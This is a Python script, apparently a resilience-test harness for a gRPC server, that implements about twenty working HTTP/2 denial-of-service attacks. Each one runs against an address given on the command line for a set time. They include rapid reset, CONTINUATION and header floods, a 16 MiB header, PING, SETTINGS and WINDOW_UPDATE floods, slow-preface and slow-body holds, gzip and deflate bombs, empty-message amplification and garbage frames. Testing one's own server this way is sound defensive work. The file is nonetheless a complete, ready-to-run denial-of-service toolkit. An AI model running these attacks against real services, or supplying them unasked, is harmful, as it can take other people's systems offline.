"""What strangers do to a gRPC port. Each attack works for a time and says what it did.

usage: attacks.py NAME ADDRESS SECONDS
"""
import gzip
import io
import random
import socket
import struct
import sys
import time
import zlib
from collections.abc import Iterator

import http2
from http2 import (CANCEL, CONTINUATION, END_HEADERS, GENERATE, GENERATE_STREAM, HEADERS, PING, RST_STREAM, SETTINGS,
                   frame, message, open_connection, request_headers)

MIB = 1 << 20
ATTACKS = {}


def attack(function):
    ATTACKS[function.__name__] = function
    return function


def until(seconds: float) -> Iterator[None]:
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        yield


def send(connection: socket.socket, data: bytes, end: float) -> int:
    """Bytes that the peer took until `end`. It may stop reading, or close."""
    sent = 0
    while sent < len(data) and time.monotonic() < end:
        connection.settimeout(max(0.001, min(1.0, end - time.monotonic())))
        try:
            sent += connection.send(data[sent:sent + (1 << 16)])
        except TimeoutError:
            continue
        except OSError:
            break
    return sent


def flood(address: str, seconds: float, blob: bytes, what: str, settings: bytes = b"") -> str:
    """`blob` on one new connection after another."""
    connections = sent = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            with open_connection(address, settings) as connection:
                connections += 1
                sent += send(connection, blob, end)
        except OSError:
            time.sleep(0.001)  # refused: what the attacker's own machine would take
    return f"{connections} connections, {sent / MIB:.1f} MiB of {what}"


def stream_ids(count: int) -> range:
    return range(1, 2 * count, 2)


@attack
def rapid_reset(address: str, seconds: float) -> str:
    headers = request_headers(GENERATE_STREAM)
    reset = struct.pack(">I", CANCEL)
    blob = b"".join(frame(HEADERS, END_HEADERS, s, headers) + frame(RST_STREAM, 0, s, reset) for s in stream_ids(4000))
    return flood(address, seconds, blob, "HEADERS and RST_STREAM")


@attack
def header_flood(address: str, seconds: float) -> str:
    """Requests whose headers take 512 KiB each, in CONTINUATION frames that do end."""
    block = request_headers(GENERATE, [(b"x-%d" % i, b"v" * 1000) for i in range(512)])
    parts = [block[i:i + http2.MAX_FRAME] for i in range(0, len(block), http2.MAX_FRAME)]
    frames = []
    for stream in stream_ids(32):
        frames.append(frame(HEADERS, 0, stream, parts[0]))
        for i, part in enumerate(parts[1:], 1):
            frames.append(frame(CONTINUATION, END_HEADERS if i == len(parts) - 1 else 0, stream, part))
    return flood(address, seconds, b"".join(frames), "headers")


@attack
def continuation_flood(address: str, seconds: float) -> str:
    """One header block that never ends, in frames of a few bytes."""
    header = http2.literal(b"x", b"y")
    blob = frame(HEADERS, 0, 1, request_headers(GENERATE)) + frame(CONTINUATION, 0, 1, header) * 100_000
    return flood(address, seconds, blob, "CONTINUATION")


@attack
def giant_header(address: str, seconds: float) -> str:
    """One header whose value takes 16 MiB."""
    size = 16 * MIB
    block = request_headers(GENERATE) + b"\x00" + http2.integer(1, 7) + b"x" + http2.integer(size, 7) + b"v" * size
    parts = [block[i:i + http2.MAX_FRAME] for i in range(0, len(block), http2.MAX_FRAME)]
    blob = frame(HEADERS, 0, 1, parts[0]) + b"".join(frame(CONTINUATION, 0, 1, p) for p in parts[1:-1])
    return flood(address, seconds, blob + frame(CONTINUATION, END_HEADERS, 1, parts[-1]), "one header")


@attack
def ping_flood(address: str, seconds: float) -> str:
    return flood(address, seconds, frame(PING, 0, 0, b"pingpong") * 100_000, "PING")


@attack
def settings_flood(address: str, seconds: float) -> str:
    settings = struct.pack(">HI", http2.SETTING_INITIAL_WINDOW, 65535)
    return flood(address, seconds, frame(SETTINGS, 0, 0, settings) * 50_000, "SETTINGS")


@attack
def empty_data_flood(address: str, seconds: float) -> str:
    blob = frame(HEADERS, END_HEADERS, 1, request_headers(GENERATE)) + frame(http2.DATA, 0, 1) * 100_000
    return flood(address, seconds, blob, "DATA without a byte")


@attack
def window_update_flood(address: str, seconds: float) -> str:
    return flood(address, seconds, frame(http2.WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 100_000, "WINDOW_UPDATE")


@attack
def connection_flood(address: str, seconds: float) -> str:
    """Connections that say hello and leave."""
    connections = 0
    for _ in until(seconds):
        try:
            open_connection(address).close()
            connections += 1
        except OSError:
            time.sleep(0.001)
    return f"{connections} connections"


@attack
def idle_connections(address: str, seconds: float) -> str:
    """As many connections as the attacker may have, none of which says a word."""
    held = []
    for _ in until(seconds):
        try:
            held.append(http2.connect(address, timeout=0.2))
        except OSError:
            time.sleep(0.01)
    return f"{len(held)} silent connections"


@attack
def bad_preface(address: str, seconds: float) -> str:
    random_ = random.Random(1)
    garbage = [b"GET / HTTP/1.1\r\nhost: x\r\n\r\n", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(500),
               b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(range(256)) * 8, random_.randbytes(4096), b"\n" * 4096]
    connections = 0
    for _ in until(seconds):
        try:
            with http2.connect(address) as connection:
                connection.sendall(garbage[connections % len(garbage)])
                connections += 1
        except OSError:
            time.sleep(0.001)
    return f"{connections} connections of garbage"


@attack
def slow_preface(address: str, seconds: float) -> str:
    """Many connections that send their preface a byte at a time."""
    held: list[tuple[socket.socket, int]] = []
    for _ in until(seconds):
        if len(held) < 300:
            try:
                held.append((http2.connect(address, timeout=0.2), 0))
            except OSError:
                time.sleep(0.01)
            continue
        for i, (connection, at) in enumerate(held):
            try:
                connection.send(http2.PREFACE[at:at + 1])
                held[i] = connection, (at + 1) % (len(http2.PREFACE) - 1)
            except OSError:
                pass
        time.sleep(0.05)
    return f"{len(held)} connections, a byte each 50 ms"


@attack
def slow_bodies(address: str, seconds: float) -> str:
    """Streams that declare 16 MiB, send all but the last of them and stay."""
    streams = list(stream_ids(8))
    headers = request_headers(GENERATE)
    body = b"\0" + struct.pack(">I", 16 * MIB - 64) + b"x" * (15 * MIB)
    sent, connections = 0, []
    end = time.monotonic() + seconds
    while time.monotonic() < end and len(connections) < 12:
        try:
            connection = open_connection(address)
            connections.append(connection)
            connection.sendall(b"".join(frame(HEADERS, END_HEADERS, s, headers) for s in streams))
        except OSError:
            time.sleep(0.01)
            continue
        uploader = http2.Uploader(connection, streams)
        uploader.send(dict.fromkeys(streams, body), end=False, seconds=min(1.0, end - time.monotonic()))
        sent += uploader.sent
    while time.monotonic() < end:
        time.sleep(0.05)
    return f"{len(connections)} connections, {sent / MIB:.0f} MiB of bodies that do not end"


def bodies(address: str, seconds: float, body: bytes, headers: list[tuple[bytes, bytes]] = ()) -> str:
    """`body` as one call after another on a connection."""
    calls = sent = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            connection = open_connection(address)
        except OSError:
            time.sleep(0.001)
            continue
        with connection:
            uploader, stream = http2.Uploader(connection, []), 1
            while not uploader.closed and time.monotonic() < end:
                uploader.open(stream, request_headers(GENERATE, headers))
                uploader.send({stream: body}, end=True, seconds=end - time.monotonic())
                # Its answer, so that the next call costs as much as this one. The sink answers nothing.
                deadline = min(end, time.monotonic() + 0.2)
                while stream not in uploader.ended and not uploader.closed and time.monotonic() < deadline:
                    uploader.receive(0.01)
                calls, stream, sent = calls + 1, stream + 2, sent + len(body)
    return f"{calls} calls, {sent / MIB:.1f} MiB"


def zeros(size: int, compressor) -> bytes:
    out, block = io.BytesIO(), bytes(MIB)
    for _ in range(size // MIB):
        out.write(compressor.compress(block))
    out.write(compressor.flush())
    return out.getvalue()


@attack
def gzip_bomb(address: str, seconds: float) -> str:
    """64 MiB of zeros behind 64 KiB of gzip."""
    bomb = zeros(64 * MIB, zlib.compressobj(9, zlib.DEFLATED, 31))
    return bodies(address, seconds, message(bomb, compressed=True), [(b"grpc-encoding", b"gzip")])


@attack
def deflate_bomb(address: str, seconds: float) -> str:
    bomb = zeros(64 * MIB, zlib.compressobj(9))
    return bodies(address, seconds, message(bomb, compressed=True), [(b"grpc-encoding", b"deflate")])


def field(number: int, payload: bytes) -> bytes:
    size, value = len(payload), b""
    while size >= 128:
        value += bytes([size & 127 | 128])
        size >>= 7
    return bytes([number << 3 | 2]) + value + bytes([size]) + payload


@attack
def empty_messages(address: str, seconds: float) -> str:
    """16 MiB of chat messages without a byte: 8.4 million of them."""
    return bodies(address, seconds, message(field(5, b"\x0a\x00" * (8 * MIB - 16))))


@attack
def compressed_empty_messages(address: str, seconds: float) -> str:
    """The same behind 16 KiB of gzip."""
    body = gzip.compress(field(5, b"\x0a\x00" * (8 * MIB - 16)))
    return bodies(address, seconds, message(body, compressed=True), [(b"grpc-encoding", b"gzip")])


@attack
def raw_garbage(address: str, seconds: float) -> str:
    """Frames of a few bytes that are no protobuf, on many streams."""
    random_ = random.Random(2)
    blob = b""
    for stream in stream_ids(100):
        body = message(random_.randbytes(random_.randrange(1, 200)))
        blob += frame(HEADERS, END_HEADERS, stream, request_headers(GENERATE)) + frame(http2.DATA, 1, stream, body)
    return flood(address, seconds, blob, "calls that are no protobuf")


@attack
def frame_garbage(address: str, seconds: float) -> str:
    """Frames of every kind with payloads of no kind."""
    random_ = random.Random(3)
    blob = b"".join(frame(random_.randrange(12), random_.randrange(256), random_.randrange(64),
                          random_.randbytes(random_.randrange(64))) for _ in range(2000))
    return flood(address, seconds, blob, "frames of garbage")


if __name__ == "__main__":
    print(ATTACKS[sys.argv[1]](sys.argv[2], float(sys.argv[3])))
